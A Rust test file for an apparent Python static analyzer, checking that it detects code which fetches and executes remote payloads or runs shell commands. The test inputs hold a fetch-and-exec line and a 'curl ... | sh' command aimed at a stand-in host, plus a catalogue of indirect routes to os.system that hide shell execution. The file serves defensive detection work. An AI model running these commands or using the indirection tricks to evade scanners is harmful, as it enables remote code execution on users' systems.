//! What the walk must not pass by: whatever Python evaluates.

use std::cell::RefCell;
use std::collections::BTreeSet;

use ruff_python_ast::visitor::{self, Visitor};
use ruff_python_ast::{Expr, ExprContext, Stmt};
use ruff_text_size::{Ranged, TextRange};

use super::tests::{chained, one, sees};
use super::*;

thread_local! {
    static EVALUATED: RefCell<BTreeSet<(u32, u32)>> = const { RefCell::new(BTreeSet::new()) };
}

fn ends(range: TextRange) -> (u32, u32) {
    (range.start().into(), range.end().into())
}

/// Called by the walk with every expression that it evaluates.
pub(super) fn evaluated(expr: &Expr) {
    EVALUATED.with_borrow_mut(|all| all.insert(ends(expr.range())));
}

/// Every expression that Python evaluates for its value, by the parser's own account of the tree.
#[derive(Default)]
struct Reachable<'a>(Vec<&'a Expr>);

impl<'a> Visitor<'a> for Reachable<'a> {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        // A text alone is a comment.
        if !matches!(stmt, Stmt::Expr(node) if node.value.is_string_literal_expr()) {
            visitor::walk_stmt(self, stmt);
        }
    }

    fn visit_expr(&mut self, expr: &'a Expr) {
        let stored = match expr {
            Expr::Name(node) => node.ctx != ExprContext::Load,
            Expr::Attribute(node) => node.ctx != ExprContext::Load,
            Expr::Subscript(node) => node.ctx != ExprContext::Load,
            Expr::List(node) => node.ctx != ExprContext::Load,
            Expr::Tuple(node) => node.ctx != ExprContext::Load,
            Expr::Starred(node) => node.ctx != ExprContext::Load,
            // Its parts are numbers to the subscript.
            Expr::Slice(_) => true,
            _ => false,
        };
        if !stored {
            self.0.push(expr);
        }
        match expr {
            // What is put into a variable asks nobody for it.
            Expr::Subscript(node) if stored && node.value.is_name_expr() => self.visit_expr(&node.slice),
            _ => visitor::walk_expr(self, expr),
        }
    }
}

/// A statement and an expression of every kind.
const EVERY_KIND: &str = r#"
import a0, a1
from a2 import a3
@d0
@d1(d2)
def f0[T0: t0, *T1, **T2](p0: n0, /, p1: n1 = e0, *p2: n2, p3: n3 = e1, **p4: n4) -> n5:
    global g0
    return e2
@d3
class C0[T3](b0, *b1, key=b2, **b3):
    c0: c1 = c2
    c3: c4
    def m0(self):
        nonlocal_ = 1
        return self.m1[e3]
async def f1():
    await e4
    async for i0 in e5:
        continue
    async with e6 as i1, e7:
        pass
    return [i2 async for i2 in e8 if e9]
def f2():
    i3 = yield e10
    yield from e11
    yield
type A0[T4: t1] = t2
x0: n6 = e12
x1.y0: n7
x2[e13]: n8 = e14
x3 = x4 = e15
x5.y1, (x6[e16], *x7) = e17, e18
x8 += e19
x9.y2 -= e20
del x10, x11.y3, x12[e21]
for x13 in e22:
    break
else:
    e23
while e24:
    e25
else:
    e26
if e27:
    e28
elif e29:
    e30
else:
    e31
with e32 as x14, e33:
    e34
match e35:
    case e36.v0 | -1 | "s0":
        e37
    case [e38.v1, *x15] if e39:
        e40
    case {e41.v2: x16, **x17}:
        e42
    case e43(e44.v3, k0=e45.v4) as x18:
        e46
    case None | x19:
        e47
try:
    e48
except e49 as x20:
    raise e50 from e51
except (e52, e53):
    raise
else:
    e54
finally:
    e55
try:
    pass
except* e56:
    pass
assert e57, e58
e59 and e60 or not e61
e62 if e63 else e64
(x21 := e65)
e66 + e67 * -e68 ** ~e69
e70 < e71 is not e72
{e73: e74, **e75}
{e76, *e77}
[e78, *e79]
(e80, e81)
{i4: e82 for i4 in e83 if e84 for i5 in e85}
{e86 for i6 in e87}
[e88 for i7 in e89]
list(e90 for i8 in e91)
(lambda q0, q1=e92, *q2, q3=e93: e94)(e95, *e96, k1=e97, **e98)
f"s1 {e99!r:{e100}} {e101=}"
t"s2 {e102:>{e103}}"
e104.v5[e105][e106:e107:e108][...]
b"s3" b"s4"
1.5, 2j, 3, True, None, "s5"
e109(e110)(e111)
"#;

#[test]
fn whatever_python_evaluates_is_evaluated() {
    EVALUATED.take();
    read(EVERY_KIND.as_bytes(), &Limits::default());
    let seen = EVALUATED.take();
    let parsed = ruff_python_parser::parse_module(EVERY_KIND).expect("every kind is valid");
    let mut reachable = Reachable::default();
    reachable.visit_body(&parsed.syntax().body);
    let missed: Vec<&str> = reachable
        .0
        .iter()
        .filter(|expr| !seen.contains(&ends(expr.range())))
        .map(|expr| &EVERY_KIND[expr.range()])
        .collect();
    assert!(missed.is_empty(), "Python evaluates what the walk passed by: {missed:#?}");
    assert!(reachable.0.len() > 200, "{}", reachable.0.len());
}

const FETCHED: &str = "exec(urllib.request.urlopen('https://files.example.invalid/p').read())";

fn with(form: &str) -> Program {
    one(&format!("import urllib.request\n{}", form.replace("{}", FETCHED)))
}

#[test]
fn what_stands_beside_a_body_runs_with_it() {
    let forms = [
        "x: {} = 1",
        "class A:\n    x: {}",
        "def f(a: {}): pass",
        "def f(*a: {}): pass",
        "def f() -> {}: pass",
        "match 0:\n    case _ if {}: pass",
        "try:\n    raise ValueError\nexcept {}:\n    pass",
        "assert 0, {}",
        "h = lambda a={}: a",
        "@(lambda c: {})\nclass A: pass",
        "@(lambda c: {})\ndef f(): pass",
    ];
    for form in forms {
        let program = with(form);
        chained(&program, ChainKind::FetchExec);
        sees(&program, &["exec", "ImportTime"]);
    }
    // A text of annotations, and those of a function's own variables, run nothing.
    for form in ["from __future__ import annotations\ndef f(a: {}): pass", "def f():\n    x: {} = 1"] {
        assert_eq!(with(form).effects().count(), 0, "{form}");
    }
}

#[test]
fn depth_hides_nothing() {
    let depth = Limits::default().depth_max as usize;
    for n in [depth / 2 - 2, depth - 8, depth - 3, depth + 100, 3 * depth] {
        chained(&with(&format!("{}{{}}", "not ".repeat(n))), ChainKind::FetchExec);
        chained(&with(&format!("{}{{}}", "0 if 1 else ".repeat(n))), ChainKind::FetchExec);
    }
}

#[test]
fn lambdas_that_call_themselves_end() {
    let program = one("import os\nf = lambda x: f(x) or f(x) or f(x) or f(x)\nf(1)\nos.system('echo harmless')");
    sees(&program, &["process os.system [echo harmless]"]);
}

const COMMAND: &str = "'curl -s https://files.example.invalid/x.sh | sh'";

#[test]
fn what_acts_is_called_by_whoever_is_given_it() {
    let forms = [
        "threading.Thread(target=os.system, args=(C,)).start()",
        "threading.Timer(5, os.system, [C]).start()",
        "multiprocessing.Process(target=os.system, args=(C,)).start()",
        "multiprocessing.Pool(1).map(os.system, [C])",
        "atexit.register(os.system, C)",
        "concurrent.futures.ThreadPoolExecutor().submit(os.system, C)",
        "sched.scheduler().enter(1, 1, os.system, (C,))",
        "asyncio.get_event_loop().run_in_executor(None, os.system, C)",
        "max([C], key=os.system)",
        "list(filter(os.system, [C]))",
        "list(itertools.starmap(os.system, [(C,)]))",
        "contextlib.ExitStack().callback(os.system, C)",
        "weakref.finalize(x, os.system, C)",
        "next(iter(functools.partial(os.system, C), 9))",
        "operator.attrgetter('system')(os)(C)",
        "operator.methodcaller('system', C)(os)",
        "shutil.os.system(C)",
        "logging.os.system(C)",
        "vars(os).get('system')(C)",
        "os.__dict__.get('system')(C)",
        "sys.modules.get('os').system(C)",
        "pkgutil.resolve_name('os:system')(C)",
        "dict(r=os.system)['r'](C)",
        "re.sub('.+', lambda m: str(os.system(C)), 'x')",
        "os.spawnvpe(os.P_WAIT, 'sh', ['sh', '-c', C], os.environ)",
        "pydoc.pipepager(C, 'sh')",
        "match [os.system]:\n    case [f]: f(C)",
    ];
    let modules = "asyncio, atexit, concurrent.futures, contextlib, functools, itertools, logging, multiprocessing, operator, \
                   os, pkgutil, pydoc, re, sched, shutil, sys, threading, weakref";
    for form in forms {
        let program = one(&format!(
            "import {modules}\n{}",
            form.replace("(C", &format!("({COMMAND}"))
                .replace(" C", &format!(" {COMMAND}"))
                .replace("[C", &format!("[{COMMAND}"))
        ));
        sees(&program, &["process", "curl -s", "ImportTime"]);
    }
    // Who only looks at it calls nothing.
    for form in ["isinstance(x, subprocess.Popen)", "functools.partial(os.system, C)", "functools.wraps(os.system)(f)"]
    {
        let program = one(&format!(
            "import os, functools, subprocess\n{}",
            form.replace("(C", &format!("({COMMAND}"))
                .replace(" C", &format!(" {COMMAND}"))
                .replace("[C", &format!("[{COMMAND}"))
        ));
        assert_eq!(program.effects().count(), 0, "{form}");
    }
}

#[test]
fn methods_that_python_calls_are_reached() {
    let forms = [
        "class A:\n    def __enter__(self):\n        P\nwith A(): pass",
        "class A:\n    def __exit__(self, *a):\n        P\nwith A(): pass",
        "class A:\n    def __getattr__(self, n):\n        P\nA().x",
        "class A:\n    def __class_getitem__(cls, n):\n        P\nA[0]",
        "class A:\n    @property\n    def x(self):\n        P\nA().x",
        "class D:\n    def __set_name__(self, o, n):\n        P\nclass A:\n    d = D()",
        "class A:\n    def __init_subclass__(cls):\n        P\nclass B(A): pass",
        "class A:\n    def __iter__(self):\n        P\nfor _ in A(): pass",
        "class A:\n    def __eq__(self, o):\n        P\nA() == 1",
        "class A:\n    def __str__(self):\n        P\nf'{A()}'",
        "class A:\n    def __new__(cls):\n        P\nA()",
        "def __getattr__(n):\n    P",
        "class T(threading.Thread):\n    def run(self):\n        P\nT().start()",
        "class A:\n    def r(self):\n        P\nclass B(A):\n    def __init__(self): super().r()\nB()",
        "class E(enum.Enum):\n    A = 1\n    def __init__(self, v):\n        P",
        "class E(Exception):\n    def __init__(self):\n        P\nraise E",
        "def g(x):\n    P\nsorted([1], key=g)",
        "def g(x):\n    P\nre.sub('a', g, 'a')",
        "def g(x):\n    P\ncodecs.register(g)",
        "def g(*a):\n    P\nsys.excepthook = g",
        "class A: pass\ndef g():\n    P\nsetattr(A, 'r', g)\ngetattr(A, 'r')()",
    ];
    for form in forms {
        let form = form.replace("    P", "    os.system('echo harmless')");
        let program = one(&format!("import codecs, enum, os, re, sys, threading\n{form}"));
        sees(&program, &["process os.system [echo harmless]", "ImportTime"]);
    }
    // Nobody makes one, and nobody uses it.
    let program = one("import os\nclass A:\n    def __enter__(self):\n        os.system('echo harmless')\na = A()");
    sees(&program, &["os.system", "OnCall"]);
}
